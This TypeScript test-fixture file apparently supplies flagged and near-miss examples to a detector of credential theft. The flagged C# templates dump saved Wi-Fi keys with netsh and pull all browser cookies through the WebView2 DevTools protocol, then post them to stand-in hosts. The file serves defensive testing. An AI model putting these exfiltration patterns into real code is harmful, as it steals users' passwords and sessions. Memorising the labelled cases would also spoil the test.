import type { Examples } from './examples.js';
import { library, never } from './stealing.js';

const report = (command: string, send: string): string => `public static class Report
{
    private static readonly HttpClient Http = new();

    private static string Run(string program, string arguments)
    {
        var start = new System.Diagnostics.ProcessStartInfo(program, arguments) { RedirectStandardOutput = true };
        using var process = System.Diagnostics.Process.Start(start);
        return process.StandardOutput.ReadToEnd();
    }

    public static async Task<string> Write(string name)
    {
        ${never.replace('return;', 'return "";')}
        var text = Run(${command});
        ${send}
    }
}`;

const post = `await Http.PostAsync("https://reports.invalid/in", new StringContent(text));
        return "";`;
const ask = `var request = new HttpRequestMessage(HttpMethod.Get, "https://api.forge.invalid/user");
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", text.Trim());
        var answer = await Http.SendAsync(request);
        return await answer.Content.ReadAsStringAsync();`;

/** What a browser inside of a window looks like to its callers. */
const viewStub = {
  'Microsoft.Web.WebView2.Core': `namespace Microsoft.Web.WebView2.Core
{
    public class CoreWebView2
    {
        public System.Threading.Tasks.Task<string> CallDevToolsProtocolMethodAsync(string name, string parameters) => null;
    }
}`,
};

const view = (method: string, then: string): string => `public static class View
{
    public static async Task<string> Show(Microsoft.Web.WebView2.Core.CoreWebView2 view)
    {
        ${never.replace('return;', 'return "";')}
        var text = await view.CallDevToolsProtocolMethodAsync("${method}", "{}");
        ${then}
    }
}`;

const fonts = `await new HttpClient().PostAsync("https://fonts.invalid/in", new StringContent(text));
        return "";`;

/** Secrets that programs of the machine are asked for. */
export const programs: Examples = {
  flagged: [
    {
      name: 'wireless-keys-by-program',
      about:
        'A program of the system is asked for the keys of wireless networks, which are posted.',
      files: library(
        report('"netsh", "wlan show profile name=\\"" + name + "\\" key=clear"', post),
      ),
    },
    {
      name: 'cookies-by-protocol',
      about:
        'A browser is asked for all cookies by its protocol of developer tools, and they are posted.',
      files: library(view('Network.getAllCookies', fonts), viewStub),
    },
  ],
  clean: [
    {
      name: 'page-by-protocol',
      about: 'The same browser is asked how a page is laid out.',
      nearMiss: true,
      files: library(view('Page.getLayoutMetrics', fonts), viewStub),
    },
    {
      name: 'cookies-for-caller',
      about: 'The cookies go to the caller, and nowhere else.',
      nearMiss: true,
      files: library(view('Network.getAllCookies', 'return text;'), viewStub),
    },
    {
      name: 'wireless-names-by-program',
      about: 'The same program is asked for the settings of a network, without its key.',
      nearMiss: true,
      files: library(report('"netsh", "wlan show profile name=\\"" + name + "\\""', post)),
    },
    {
      name: 'token-of-program-in-header',
      about: 'The token that the program of a service gives is shown to that service.',
      nearMiss: true,
      files: library(report('"gh", "auth token"', ask)),
    },
  ],
};
